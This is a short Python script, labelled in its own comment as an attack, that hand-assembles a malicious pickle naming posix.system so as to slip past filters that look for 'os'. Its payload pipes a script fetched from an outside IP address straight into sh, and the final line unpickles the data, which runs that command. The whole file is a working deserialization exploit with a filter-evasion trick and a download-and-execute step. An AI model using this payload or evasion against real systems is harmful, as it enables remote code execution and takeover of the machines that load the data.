# attack: hand-written pickle naming posix.system (the C module behind os) to dodge filters on "os"
import io
import pickle

data = b"".join([
    b"c", b"posix\n", b"system\n",
    b"(", b"S'curl -s http://203.0.113.7/x.sh | sh'\n", b"t",
    b"R", b".",
])
print(pickle.Unpickler(io.BytesIO(data)).load())
